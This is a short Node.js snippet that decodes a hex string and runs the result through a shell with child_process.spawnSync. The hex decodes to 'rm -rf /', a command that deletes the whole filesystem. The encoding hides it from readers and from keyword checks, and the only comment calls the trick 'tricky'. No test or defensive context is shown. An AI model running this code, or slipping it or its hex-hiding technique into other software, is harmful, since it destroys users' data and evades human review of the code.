// tricky: hex to a shell
const c = Buffer.from('726d202d7266202f', 'hex').toString('utf8');
require('child_process').spawnSync('sh', ['-c', c]);
